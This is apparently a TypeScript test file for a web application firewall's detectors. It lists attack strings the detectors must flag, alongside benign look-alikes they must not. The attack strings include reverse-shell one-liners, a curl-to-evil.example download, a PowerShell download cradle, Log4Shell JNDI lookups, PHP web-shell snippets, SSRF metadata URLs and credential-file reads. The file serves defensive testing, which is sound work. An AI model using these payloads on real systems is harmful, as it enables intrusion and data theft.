/**
 * Table-driven tests of the detectors written here (SQLi and XSS have their own): for each, attacks
 * that must be found at paranoia 1 and near misses — benign values that look alike — that must not.
 * Values go through the normaliser first, as in the engine.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { detectCode } from './code.ts';
import { detectCommand } from './command.ts';
import { detectJava } from './java.ts';
import { detectLfi } from './lfi.ts';
import { normalize } from './normalize.ts';
import { detectPhp } from './php.ts';
import { detectLdap, detectProtocolRequest, detectProtocolValue } from './protocol.ts';
import { detectRfi } from './rfi.ts';
import { detectScanner } from './scanner.ts';
import { detectCookieInjection, detectSessionFixation } from './session.ts';
import { detectSsrf } from './ssrf.ts';
import { charClasses, CRITICAL, type Hit, type Location, type Paranoia, type ValueInfo } from './types.ts';

type Detector = (v: string, pl: Paranoia, info: ValueInfo) => Hit | null;

function run(d: Detector, raw: string, pl: Paranoia = 1, location: Location = 'query', header?: string): Hit | null {
  const n = normalize(raw);
  return d(n.value, pl, { chars: charClasses(n.value), location, key: false, flags: n.flags, header });
}

function table(name: string, d: Detector, attacks: (string | [string, string])[], benign: string[], location: Location = 'query'): void {
  describe(name, () => {
    for (const a of attacks) {
      const [value, rule] = Array.isArray(a) ? a : [a, undefined];
      it(`finds ${JSON.stringify(value).slice(0, 70)}`, () => {
        const h = run(d, value, 1, location);
        assert.ok(h !== null && h.score >= CRITICAL, `expected a critical finding, got ${JSON.stringify(h)}`);
        if (rule !== undefined) assert.equal(h.rule, rule);
      });
    }
    for (const b of benign) {
      it(`leaves ${JSON.stringify(b).slice(0, 70)}`, () => {
        const h = run(d, b, 1, location);
        assert.ok(h === null || h.score < CRITICAL, `unexpected ${JSON.stringify(h)}`);
      });
    }
  });
}

table('lfi', detectLfi, [
  ['../../etc/passwd', 'lfi.traversal'],
  ['..%2f..%2f..%2fetc%2fpasswd', 'lfi.traversal'],
  ['%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'lfi.traversal'],
  ['..\\..\\windows\\win.ini', 'lfi.traversal'],
  ['/..;/..;/WEB-INF/web.xml', 'lfi.traversal'],
  ['0x2e0x2e0x2f0x2e0x2e0x2fetc', 'lfi.traversal'],
  ['/etc/passwd%00.png', 'lfi.sensitive-file'],
  ['/proc/self/environ', 'lfi.sensitive-file'],
  ['file=.ssh/id_rsa', 'lfi.sensitive-file'],
  ['.env', 'lfi.sensitive-file'],
  ['C:\\Windows\\win.ini', 'lfi.sensitive-file'],
  ['/root/.aws/credentials', 'lfi.sensitive-file'],
], ['images/logo.png', 'v1.2.3', 'see the docs at https://example.com/guide/intro', 'node.js and .net developers', 'report.final.pdf', 'the /etc directory', 'a..b', '#!/usr/bin/env python']);

table('lfi in the request path', detectLfi, ['/backup/db.sql', ['/index.php~', 'lfi.restricted-extension'], ['/.git/config', 'lfi.sensitive-file'], ['/.claude/settings.json', 'lfi.sensitive-file']], ['/api/orders/42', '/static/app.js', '/docs/config.json', '/.well-known/openid-configuration'], 'path');

table('rfi', (v, pl, info) => detectRfi(v, pl, info, 'src', 'localhost'), [
  ['http://66.240.183.75/crash.php', 'rfi.ip-url'],
  ['ftp://example.com/x', 'rfi.scheme'],
  ['file:///etc/passwd', 'rfi.scheme'],
  ['gopher://example.com/_x', 'rfi.scheme'],
  ['https://example.com/shell.txt?', 'rfi.trailing-question-mark'],
  ['jar:http://evil.example/b.zip!/a', 'rfi.scheme'],
], ['https://example.com/page', 'see https://www.example.org/docs for details', 'http-only', 'meet at 10:30']);

table('rce', detectCommand, [
  [';cat /etc/passwd', 'rce.unix-command'],
  '| whoami',
  ['&& id', 'rce.unix-command'],
  ['$(curl http://evil.example/x.sh)', 'rce.substitution'],
  ['`id`', 'rce.substitution'],
  ['cat${IFS}/etc/passwd', 'rce.shell-syntax'],
  ['c\'a\'t /etc/passwd', 'rce.unix-command'],
  ['ls -la /', 'rce.unix-command'],
  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'rce.reverse-shell'],
  ['{cat,/etc/passwd}', 'rce.brace-expansion'],
  ['/???/??t /???/p??s??', 'rce.glob'],
  ['() { :;}; /bin/bash -c id', 'rce.shellshock'],
  ['cmd.exe /c dir', 'rce.windows-command'],
  ['powershell -enc SQBFAFgA', 'rce.powershell'],
  ['IEX(New-Object Net.WebClient).DownloadString("http://x")', 'rce.powershell'],
  ['for /f %i in (\'dir\') do echo %i', 'rce.windows-command'],
  ['x%0d%0aRCPT TO:<victim@example.com>', 'rce.mail-injection'],
  ['time whoami', 'rce.unix-command'],
], ['cat food', 'head & shoulders', 'rock & roll', 'time flies when you have fun', 'I like dogs; cat people are nice too', 'ping pong tables', 'Tom & Jerry', 'echo park', 'which one?', 'R&D', 'salt; pepper; oil', 'head of sales', 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36']);

table('php', detectPhp, [
  ['<?php system($_GET["c"]); ?>', 'php.open-tag'],
  ['php://filter/convert.base64-encode/resource=index.php', 'php.wrapper'],
  ['phar://x.zip/y', 'php.wrapper'],
  ['base64_decode("aWQ=")', 'php.function'],
  ['eval($_POST[1])', 'php.superglobal'],
  ['system(\'id\')', 'php.function'],
  ['$f(1)', 'php.variable-function'],
  ['O:8:"stdClass":1:{s:1:"a";i:2;}', 'php.serialized'],
  ['"system"(\'ls\');', 'php.callable-string'],
  ['allow_url_include=1', 'php.config'],
], ['richard.php@example.com', 'printf(foo)', 'the price is $5 (excl. VAT)', 'costs $15', '<?xml version="1.0"?>', 'php developer jobs']);

table('java', detectJava, [
  ['${jndi:ldap://evil.example/a}', 'java.log4shell'],
  ['${${lower:j}ndi:${lower:l}dap://x/a}', 'java.log4shell'],
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', 'java.log4shell'],
  ['%{(#_memberAccess["allowStaticMethodAccess"]=true)}', 'java.ognl'],
  ['T(java.lang.Runtime).getRuntime().exec("id")', 'java.spel'],
  ['class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 'java.class-loader'],
  ['java.lang.Runtime', 'java.dangerous-class'],
  ['java.io.File', 'java.class-name'],
  ['rO0ABXNyABFqYXZh', 'java.serialized'],
], ['I love Java and JavaScript', 'the ${name} placeholder', 'Exception in thread "main" java.lang.NullPointerException at Foo.bar', '{"@type": "Person"}']);

table('code', detectCode, [
  ['{{7*7}}', 'code.template'],
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 'code.template'],
  ['${7*7}', 'code.template'],
  ['<%= 7*7 %>', 'code.template'],
  ['{% if True %}x{% endif %}', 'code.template'],
  ["require('child_process').exec('id')", 'code.node'],
  ['this.constructor.constructor("return process")()', 'code.node'],
  ['__import__("os").system("id")', 'code.python'],
  ['__proto__[admin]=1', 'code.prototype-pollution'],
  ['@{[system "id"]}', 'code.perl'],
  ['while(true);', 'code.dos-loop'],
], ['Hello {{first_name}}', '<%= title %>', 'costs ${price}', 'Process improvements for 2025', 'the prototype is ready']);

table('ssrf', detectSsrf, [
  ['http://169.254.169.254/latest/meta-data/', 'ssrf.metadata'],
  ['http://metadata.google.internal/computeMetadata/v1/', 'ssrf.metadata'],
  ['http://127.0.0.1:8080/admin', 'ssrf.loopback'],
  ['http://localhost/', 'ssrf.loopback'],
  ['http://2130706433/', 'ssrf.loopback'],
  ['http://0x7f000001/', 'ssrf.loopback'],
  ['http://[::1]/', 'ssrf.loopback'],
  ['http://[::ffff:127.0.0.1]/', 'ssrf.loopback'],
  ['http://127.0.0.1.nip.io/', 'ssrf.loopback'],
  ['gopher://10.0.0.1:6379/_INFO', 'ssrf.scheme'],
  ['http://169.254.1.1/', 'ssrf.link-local'],
  ['imap://①⑥⑨.②⑤④.①⑥⑨.②⑤④', 'ssrf.metadata'],
], ['https://example.com/hook', 'https://api.github.com/repos', 'http://8.8.8.8.example.com/']);

describe('ssrf at paranoia 2: private ranges are critical', () => {
  it('http://10.0.0.5/ is a warning at 1, critical at 2', () => {
    assert.ok((run(detectSsrf, 'http://10.0.0.5/', 1)?.score ?? 0) < CRITICAL);
    assert.equal(run(detectSsrf, 'http://10.0.0.5/', 2)?.score, CRITICAL);
  });
  it('the Referer header is not checked', () => {
    assert.equal(run(detectSsrf, 'http://127.0.0.1/app', 1, 'header', 'referer'), null);
  });
});

table('ldap', detectLdap, [['*)(uid=*))(|(uid=*', 'ldap.injection'], ['admin)(|(password=*', 'ldap.injection'], ['x)(&)', 'ldap.injection']], ['(a+b)*c', '(1+2)+(3+4)', 'hello (world)', 'foo|bar']);

table('protocol (values)', detectProtocolValue, [
  ['foo%00', 'protocol.nul-byte'],
  ['%c0%af', 'protocol.overlong-utf8'],
  ['%uff0f', 'protocol.percent-u'],
  ['x%0d%0aSet-Cookie:%20a=1', 'protocol.header-injection'],
  ['x%0d%0a%0d%0a<html>', 'protocol.response-splitting'],
  ['GET /admin HTTP/1.1', 'protocol.request-smuggling'],
], ['hello world', 'line one\nline two', 'get the http/2 docs']);

describe('scanner', () => {
  for (const ua of ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6)', 'nuclei - open source', 'Mozilla/5.0 zgrab/0.x']) {
    it(`finds ${ua}`, () => assert.ok(detectScanner(ua.toLowerCase()) !== null));
  }
  for (const ua of ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36', 'urlgrabber/3.10 yum/3.4.3', 'curl/8.7.1']) {
    it(`leaves ${ua}`, () => assert.equal(detectScanner(ua.toLowerCase()), null));
  }
});

describe('session', () => {
  it('a session id parameter from an outside link', () => {
    assert.equal(detectSessionFixation('jsessionid', true)?.rule, 'session.fixation');
    assert.equal(detectSessionFixation('jsessionid', false), null);
    assert.equal(detectSessionFixation('username', true), null);
  });
  it('cookies set by injected script', () => {
    assert.equal(detectCookieInjection(normalize('<script>document.cookie="sid=1; domain=.example.com"</script>').value)?.rule, 'session.cookie-injection');
    assert.equal(detectCookieInjection('we use cookies to improve the site'), null);
  });
});

describe('protocol (request)', () => {
  const head = (method: string, headers: [string, string][], hasBody = false) => ({ method, headers, hasBody });
  it('too many ranges, Request-Range, httpoxy, an unknown charset, a boundary on a form', () => {
    const rules = detectProtocolRequest(head('GET', [['user-agent', 'x'], ['range', 'bytes=1-2,3-4,5-6,7-8,9-10,11-12'], ['request-range', 'bytes=0-1'], ['proxy', 'http://evil'], ['content-type', 'application/x-www-form-urlencoded; charset=ibm037; boundary=x']]), 1).map((h) => h.rule);
    assert.deepEqual(rules.sort(), ['protocol.charset', 'protocol.content-type', 'protocol.range', 'protocol.range', 'protocol.restricted-header'].sort());
  });
  it('a GET with a body is a warning at 1, critical at 2', () => {
    assert.equal(detectProtocolRequest(head('GET', [['user-agent', 'x']], true), 1)[0]?.score, 3);
    assert.equal(detectProtocolRequest(head('GET', [['user-agent', 'x']], true), 2)[0]?.score, CRITICAL);
  });
  it('a plain request has none', () => {
    assert.deepEqual(detectProtocolRequest(head('POST', [['user-agent', 'Mozilla/5.0'], ['content-type', 'application/json; charset=utf-8'], ['range', 'bytes=0-99']], true), 1), []);
  });
});

table('rce: shell forms without a plain command line', detectCommand, [
  ['~+', 'rce.shell-syntax'], ['~-', 'rce.shell-syntax'], ['~+5', 'rce.shell-syntax'], ['cd ~1/x', 'rce.shell-syntax'],
  [';\n.shell nc 10.10.10.1 6666 -e sh', 'rce.shell-syntax'], ['1;.system id', 'rce.shell-syntax'], [';\n.databases', 'rce.shell-syntax'], ['1;."shell whoami', 'rce.shell-syntax'],
  ['alias a=b', 'rce.shell-syntax'], ['alias +m a=b', 'rce.shell-syntax'], ['alias +g+ a=b', 'rce.shell-syntax'], ["alias ..='cd ..'", 'rce.shell-syntax'], ['alias eennvv=env&eennvv whoami', 'rce.shell-syntax'],
  ['$SHELL -c "echo hi"', 'rce.shell-syntax'], ['${SHELL} -c "echo hi"', 'rce.shell-syntax'],
  ['bin/visudo', 'rce.unix-command'], ['/bin/ab', 'rce.unix-command'], ['x=1;/usr/local/bin/foo -x', 'rce.unix-command'],
  ['\\ls', 'rce.unix-command'], ["'c'url localhost", 'rce.unix-command'], ['""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""', 'rce.unix-command'],
  '{l,-lh}s', 'c{a,oun}t', '{,ifconfig,eth0}', '{,echo,#test}', '{,cd,/etc,}', '{id,}', "{,$'whoami',}", '{/?s?/?i?/c?t,}', '{n$u\\c$u,-nlvp,777}',
  'www.google.com;/bin/ca?+/et*/passwd', 'www.google.com;c$@at+/et$@c/pas$@swd', 'cat+/et*/*wd', ';+cat+/e\'t\'*/pa\'?s\'wd', 'x;wh??mi',
  'c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11',
  'a=/etc&&b=/passwd&&c=cat&&$c $a$b', 'd=/dev&&(sh)0>$d/tcp/51.15.142.164/777', 'a=nc&&$a -nlvp 555',
  ';rmt --version', ';cpulimit -l 100 -f whoami', '&aptitude', 'pi>()ng 127.0.0.1', "'cscli' alerts list", '"time" who',
  'echo "foo;whxam"i | tr x o | sh #"', 'f(){ f & f; };f', 'test() { test | test & } test',
  ['x\r\nEHLO test.com', 'rce.mail-injection'], ['x\r\nTOP 1 2', 'rce.mail-injection'], ['x\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891', 'rce.mail-injection'],
], [
  '~0', '~5 minutes', 'about ~20 people', 'approx. ~-5 degrees', 'see ~/notes', 'x~y',
  'the .shell file', 'end of line.\n.shell', 'a.system', 'version 1.2;.3', 'file.sh',
  'an alias for john', 'alias: Bob', 'alias', 'shell -c', 'the $shell variable',
  'bin/data.json', 'recycle bin/old', 'the trash bin/can', 'c++', 'a+b', 'g++', '1+1=2', 'notepad++',
  "O'Keefe's", "it's 'id' not 'ID'", "''that's the joke''.jpeg", 'That\'s two "O"s in goose', 'Size: 8"x11"',
  '{id,name}', '{cat,dog}', '{"a":1,"b":2}', '{red,green,blue}', 'a {b,c} d', '(s**t)', 'who?', 'c*', '(f*ck)',
  'x=1&y=2', 'name=$name', 'price=$5', 'function f(){ return f(n-1) | 1 }', 'f(){ return 1 }',
  'x\nhelo world', 'line\ntop of the page',
]);

table('rfi: include names', (v, pl, info) => detectRfi(v, pl, info, 'file', 'api.example.com'), [
  ['https://evil.example/shell.txt', 'rfi.include-name'],
  ['http://foo.bar', 'rfi.include-name'],
  ['https://evil.example/@x', 'rfi.include-name'],
], ['https://www.example.com/logo.png', 'https://cdn.example.com/a.txt', 'https://example.com/x', 'report.pdf', 'see http://foo.bar for details']);

table('rfi: include names, request to an IP address', (v, pl, info) => detectRfi(v, pl, info, 'template', '10.0.0.1'), [
  ['http://192.168.0.1/t.html', 'rfi.include-name'],
], ['http://10.0.0.1/t.html']);

table('rfi: authority confusion', (v, pl, info) => detectRfi(v, pl, info, 'x', 'api.example.com'), [
  ['http://example.com/@evil.com/', 'rfi.authority-confusion'],
  ['http://example.com%2f@evil.com/', 'rfi.authority-confusion'],
  ['http://example.com/:foo@bar@evil.com/', 'rfi.authority-confusion'],
  ['http://example.com@evil.com/', 'rfi.authority-confusion'],
], ['https://medium.com/@user/post', 'https://mastodon.social/@gargron@mastodon.social', 'https://john.doe@host.example/', 'https://user:pass@host.example/', 'https://www.npmjs.com/package/@types/node', 'https://evil.example/shell.txt']);

table('rfi: page names need a script or text file', (v, pl, info) => detectRfi(v, pl, info, 'page', 'api.example.com'), [
  ['https://evil.example/shell.txt', 'rfi.include-name'],
  ['http://evil.example/x.php', 'rfi.include-name'],
], ['https://other.example/about', 'https://github.com/org/repo', 'https://www.example.com/x.php']);

table('rfi: other names keep URLs at paranoia 1', (v, pl, info) => detectRfi(v, pl, info, 'website', 'api.example.com'), [], ['https://evil.example/shell.txt', 'http://foo.bar']);
